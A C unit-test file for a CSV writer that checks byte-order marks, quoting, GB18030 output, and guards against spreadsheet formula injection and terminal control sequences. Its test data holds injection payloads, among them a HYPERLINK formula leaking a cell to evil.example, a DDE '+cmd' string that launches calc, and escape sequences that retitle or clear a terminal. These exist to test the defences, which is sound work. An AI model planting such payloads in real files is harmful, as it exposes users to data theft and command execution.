/*
 * check_csvout.c
 *   Unit tests of src/core/csvout.c (the CSV writer), with their own Check
 *   runner: exact bytes for the byte order mark, quoting and CRLF; GB18030
 *   bytes compared with iconv(3)'s own conversion; refusals of text that is
 *   not UTF-8; round trips through the reader of csv.c in each encoding;
 *   the guard against formulas (issue 13 item 2: =HYPERLINK(...),
 *   +cmd|..., @SUM(1+1), -2+3, a leading TAB or CR were written as they
 *   are and ran in Excel): an apostrophe before such a text cell in UTF-8
 *   with BOM and GB18030, numeric columns left numbers (negative ones
 *   too), UTF-8 without BOM and a raw writer untouched, --excel-text's
 *   formulas kept; and cells written to a terminal (a pseudo-terminal)
 *   shown as the screens show them (issue 13 item 4). Cost: milliseconds.
 */
#include "config.h"

#include <check.h>
#include <fcntl.h>
#include <iconv.h>
#include <locale.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>

#include "core/csv.h"
#include "core/csvout.h"

#define JI_U8 "\xF0\xA0\xAE\xB7" /* 𠮷 U+20BB7 */
#define BOM "\xEF\xBB\xBF"
#define FFFD "\xEF\xBF\xBD"

/* An in-memory file and what was written to it. */
struct sink {
    char *buf;
    size_t len;
    FILE *fp;
};

static void
sink_open(struct sink *s)
{
    s->buf = NULL;
    s->len = 0;
    s->fp = open_memstream(&s->buf, &s->len);
    ck_assert_ptr_nonnull(s->fp);
}

static void
sink_close(struct sink *s)
{
    fclose(s->fp);
    free(s->buf);
}

/* Write the rows (each n fields) with enc; the bytes stay in s. */
static void
write_rows(struct sink *s, enum csvout_encoding enc, size_t nrows, size_t n,
           const char *const *cells)
{
    char err[256] = "";
    struct csvout *w;

    sink_open(s);
    w = csvout_open(s->fp, enc, err, sizeof(err));
    ck_assert_msg(w != NULL, "open: %s", err);
    for (size_t r = 0; r < nrows; r++)
        ck_assert_msg(csvout_row(w, n, cells + r * n, err, sizeof(err)) == 0,
                      "row %zu: %s", r, err);
    ck_assert_int_eq(csvout_rows(w), (long)nrows);
    ck_assert_int_eq(csvout_close(w, err, sizeof(err)), 0);
    fflush(s->fp);
}

START_TEST(writes_bom_and_crlf)
{
    const char *cells[] = {"户编号", "name", "1"};
    struct sink s;

    write_rows(&s, CSVOUT_UTF8_BOM, 1, 3, cells);
    ck_assert_str_eq(s.buf, BOM "户编号,name,1\r\n");
    sink_close(&s);
}
END_TEST

START_TEST(writes_no_bom)
{
    const char *cells[] = {"a", NULL, ""};
    struct sink s;

    write_rows(&s, CSVOUT_UTF8, 1, 3, cells);
    ck_assert_str_eq(s.buf, "a,,\r\n");
    sink_close(&s);
}
END_TEST

START_TEST(quotes_what_needs_it)
{
    const char *cells[] = {"a,b",   "say \"hi\"", "two\nlines", " pad",
                           "pad\t", "cr\r",       "plain 中文"};
    struct sink s;

    write_rows(&s, CSVOUT_UTF8, 1, 7, cells);
    ck_assert_str_eq(s.buf, "\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\","
                            "\" pad\",\"pad\t\",\"cr\r\",plain 中文\r\n");
    sink_close(&s);
}
END_TEST

START_TEST(writes_gb18030)
{
    const char *cells[] = {"中", JI_U8};
    struct sink s;

    write_rows(&s, CSVOUT_GB18030, 1, 2, cells);
    /* 中 is D6 D0; 𠮷 is the four-byte sequence 95 34 B2 35. */
    ck_assert_uint_eq(s.len, 2 + 1 + 4 + 2);
    ck_assert_int_eq(memcmp(s.buf, "\xD6\xD0,\x95\x34\xB2\x35\r\n", 9), 0);
    sink_close(&s);
}
END_TEST

START_TEST(refuses_invalid_utf8)
{
    const char *bad[] = {"ok", "\xC3("}, *good[] = {"fine"};
    char err[256] = "";
    struct sink s;
    struct csvout *w;

    sink_open(&s);
    w = csvout_open(s.fp, CSVOUT_UTF8, err, sizeof(err));
    ck_assert_ptr_nonnull(w);
    ck_assert_int_eq(csvout_row(w, 2, bad, err, sizeof(err)), -1);
    ck_assert_msg(strstr(err, "UTF-8") != NULL, "%s", err);
    err[0] = '\0';
    ck_assert_int_eq(csvout_row(w, 1, good, err, sizeof(err)), -1);
    ck_assert_msg(err[0] != '\0', "a failed writer stays failed");
    ck_assert_int_eq(csvout_close(w, err, sizeof(err)), -1);
    fflush(s.fp);
    ck_assert_uint_eq(s.len, 0); /* nothing of the bad row was written */
    sink_close(&s);
}
END_TEST

/* Write rows with enc, read them back with csv.c, compare every field. */
static void
round_trip(enum csvout_encoding enc, enum csv_encoding expect)
{
    const char *cells[] = {
        "户主姓名",     "身份证号", "备注", JI_U8 "䶮", "42032519800101001X",
        "a,\"b\"\r\nc", "",         " x ",  "末"};
    struct sink s;
    struct csv_error cerr;
    struct csv_reader *r;
    char **fields;
    size_t nfields;

    write_rows(&s, enc, 3, 3, cells);
    FILE *in = fmemopen(s.buf, s.len, "r");
    r = csv_open(in, CSV_ENC_UNKNOWN, &cerr);
    ck_assert_msg(r != NULL, "%s", cerr.message);
    ck_assert_int_eq(csv_encoding(r), expect);
    for (int row = 0; row < 3; row++) {
        ck_assert_int_eq(csv_next(r, &fields, &nfields, &cerr), 1);
        ck_assert_uint_eq(nfields, 3);
        for (int c = 0; c < 3; c++) {
            const char *want = cells[row * 3 + c];
            /* the reader gives a quoted line break as "\n" */
            if (strcmp(want, "a,\"b\"\r\nc") == 0)
                want = "a,\"b\"\nc";
            ck_assert_str_eq(fields[c], want);
        }
    }
    ck_assert_int_eq(csv_next(r, &fields, &nfields, &cerr), 0);
    csv_close(r);
    fclose(in);
    sink_close(&s);
}

START_TEST(round_trip_utf8_bom)
{
    round_trip(CSVOUT_UTF8_BOM, CSV_ENC_UTF8_BOM);
}
END_TEST

START_TEST(round_trip_gb18030)
{
    round_trip(CSVOUT_GB18030, CSV_ENC_GB18030);
}
END_TEST

START_TEST(encoding_names)
{
    enum csvout_encoding e = CSVOUT_UTF8;

    ck_assert_int_eq(csvout_encoding_parse("UTF-8", &e), 0);
    ck_assert_int_eq(e, CSVOUT_UTF8_BOM);
    ck_assert_int_eq(csvout_encoding_parse("gbk", &e), 0);
    ck_assert_int_eq(e, CSVOUT_GB18030);
    ck_assert_int_eq(csvout_encoding_parse("utf-8-nobom", &e), 0);
    ck_assert_int_eq(e, CSVOUT_UTF8);
    ck_assert_int_eq(csvout_encoding_parse("latin1", &e), -1);
    ck_assert_int_eq(csvout_encoding_parse(NULL, &e), -1);
    ck_assert_int_eq(e, CSVOUT_UTF8);
}
END_TEST

/* The cells of issue 13 item 2, each a text cell a spreadsheet runs. */
static const char *const formulas[] = {
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击核实\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tx",
    "\rx"};
#define NFORMULAS (sizeof formulas / sizeof formulas[0])

/* Write one row of cells with enc, raw or not, with kinds (NULL: text);
 * the bytes stay in s. */
static void
write_guarded(struct sink *s, enum csvout_encoding enc, bool raw, size_t n,
              const char *const *cells, const enum csvout_kind *kinds)
{
    char err[256] = "";
    struct csvout *w;

    sink_open(s);
    w = csvout_open(s->fp, enc, err, sizeof(err));
    ck_assert_msg(w != NULL, "open: %s", err);
    if (raw)
        csvout_set_raw(w);
    if (kinds != NULL)
        ck_assert_int_eq(csvout_set_kinds(w, n, kinds, err, sizeof(err)), 0);
    ck_assert_int_eq(csvout_row(w, n, cells, err, sizeof(err)), 0);
    ck_assert_int_eq(csvout_close(w, err, sizeof(err)), 0);
    fflush(s->fp);
}

#define GUARDED                                                                 \
    "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击核实\"\")\"," \
    "'+cmd|' /C calc'!A0,'@SUM(1+1),'-2+3,\"'\tx\",\"'\rx\"\r\n"

START_TEST(guards_formulas_for_excel)
{
    struct sink s;

    write_guarded(&s, CSVOUT_UTF8_BOM, false, NFORMULAS, formulas, NULL);
    ck_assert_str_eq(s.buf, BOM GUARDED);
    sink_close(&s);
}
END_TEST

START_TEST(guards_formulas_in_gb18030)
{
    struct sink s;
    char *back = NULL;
    size_t backlen = 0;
    FILE *u8 = open_memstream(&back, &backlen);
    iconv_t cd = iconv_open("UTF-8", "GB18030");
    char *in, *out, buf[512];
    size_t inleft, outleft = sizeof(buf);

    write_guarded(&s, CSVOUT_GB18030, false, NFORMULAS, formulas, NULL);
    ck_assert(cd != (iconv_t)-1);
    in = s.buf;
    inleft = s.len;
    out = buf;
    ck_assert_uint_ne(iconv(cd, &in, &inleft, &out, &outleft), (size_t)-1);
    fwrite(buf, 1, sizeof(buf) - outleft, u8);
    fclose(u8);
    ck_assert_str_eq(back, GUARDED);
    iconv_close(cd);
    free(back);
    sink_close(&s);
}
END_TEST

START_TEST(numeric_columns_stay_numbers)
{
    const char *cells[] = {"-2+3", "-5", "-12.50", "-2+3", "=1", "-5"};
    const enum csvout_kind kinds[] = {CSVOUT_TEXT,   CSVOUT_NUMBER,
                                      CSVOUT_NUMBER, CSVOUT_NUMBER,
                                      CSVOUT_NUMBER, CSVOUT_TEXT};
    struct sink s;

    write_guarded(&s, CSVOUT_UTF8_BOM, false, 6, cells, kinds);
    /* a numeric column's plain numbers stay numbers; what is no number
     * there is guarded all the same; "-5" in a text column is text */
    ck_assert_str_eq(s.buf, BOM "'-2+3,-5,-12.50,'-2+3,'=1,'-5\r\n");
    sink_close(&s);
}
END_TEST

START_TEST(raw_for_reimport)
{
    struct sink s;
    const char *raw = "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
                      "\"\"点击核实\"\")\",+cmd|' /C calc'!A0,@SUM(1+1),-2+3,"
                      "\"\tx\",\"\rx\"\r\n";

    write_guarded(&s, CSVOUT_UTF8, false, NFORMULAS, formulas, NULL);
    ck_assert_str_eq(s.buf, raw);
    sink_close(&s);
    write_guarded(&s, CSVOUT_UTF8_BOM, true, NFORMULAS, formulas, NULL);
    ck_assert_str_eq(s.buf + 3, raw);
    sink_close(&s);
}
END_TEST

START_TEST(excel_text_formulas_kept)
{
    const char *cells[] = {"123456789012", "12345678901", "-123456789012"};
    char err[256] = "";
    struct sink s;
    struct csvout *w;

    sink_open(&s);
    w = csvout_open(s.fp, CSVOUT_UTF8_BOM, err, sizeof(err));
    ck_assert_ptr_nonnull(w);
    csvout_set_excel_text(w);
    ck_assert_int_eq(csvout_row(w, 3, cells, err, sizeof(err)), 0);
    ck_assert_int_eq(csvout_close(w, err, sizeof(err)), 0);
    fflush(s.fp);
    ck_assert_str_eq(
        s.buf, BOM "\"=\"\"123456789012\"\"\",12345678901,'-123456789012\r\n");
    sink_close(&s);
}
END_TEST

/* A pseudo-terminal in raw mode: its master in *master, its other end as
 * a FILE. */
static FILE *
open_terminal(int *master)
{
    struct termios t;
    int slave;

    *master = posix_openpt(O_RDWR | O_NOCTTY);
    ck_assert_int_ge(*master, 0);
    ck_assert_int_eq(grantpt(*master), 0);
    ck_assert_int_eq(unlockpt(*master), 0);
    slave = open(ptsname(*master), O_RDWR | O_NOCTTY);
    ck_assert_int_ge(slave, 0);
    ck_assert_int_eq(tcgetattr(slave, &t), 0);
    cfmakeraw(&t);
    ck_assert_int_eq(tcsetattr(slave, TCSANOW, &t), 0);
    return fdopen(slave, "w");
}

START_TEST(a_terminal_sees_no_controls)
{
    const char *cells[] = {"\x1b]0;pwned\x07李四",
                           "a\xc2\x9b"
                           "2J\bb\rc",
                           "\xe2\x80\xae"
                           "cba"};
    char err[256] = "", buf[512];
    int master;
    FILE *tty;
    struct csvout *w;
    ssize_t n;

    ck_assert_ptr_nonnull(setlocale(LC_CTYPE, "C.UTF-8"));
    tty = open_terminal(&master);
    ck_assert_ptr_nonnull(tty);
    w = csvout_open(tty, CSVOUT_UTF8, err, sizeof(err));
    ck_assert_ptr_nonnull(w);
    ck_assert_int_eq(csvout_row(w, 3, cells, err, sizeof(err)), 0);
    ck_assert_int_eq(csvout_close(w, err, sizeof(err)), 0);
    n = read(master, buf, sizeof(buf) - 1);
    ck_assert_int_gt(n, 0);
    buf[n] = '\0';
    ck_assert_str_eq(buf, FFFD "]0;pwned" FFFD "李四,a" FFFD "2J" FFFD "b" FFFD
                               "c," FFFD "cba\r\n");
    fclose(tty);
    close(master);
}
END_TEST

static Suite *
csvout_suite(void)
{
    Suite *s = suite_create("csvout");
    TCase *t = tcase_create("write");

    tcase_add_test(t, writes_bom_and_crlf);
    tcase_add_test(t, writes_no_bom);
    tcase_add_test(t, quotes_what_needs_it);
    tcase_add_test(t, writes_gb18030);
    tcase_add_test(t, refuses_invalid_utf8);
    tcase_add_test(t, round_trip_utf8_bom);
    tcase_add_test(t, round_trip_gb18030);
    tcase_add_test(t, encoding_names);
    tcase_add_test(t, guards_formulas_for_excel);
    tcase_add_test(t, guards_formulas_in_gb18030);
    tcase_add_test(t, numeric_columns_stay_numbers);
    tcase_add_test(t, raw_for_reimport);
    tcase_add_test(t, excel_text_formulas_kept);
    tcase_add_test(t, a_terminal_sees_no_controls);
    suite_add_tcase(s, t);
    return s;
}

int
main(void)
{
    SRunner *sr = srunner_create(csvout_suite());
    int failed;

    srunner_run_all(sr, CK_ENV);
    failed = srunner_ntests_failed(sr);
    srunner_free(sr);
    return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
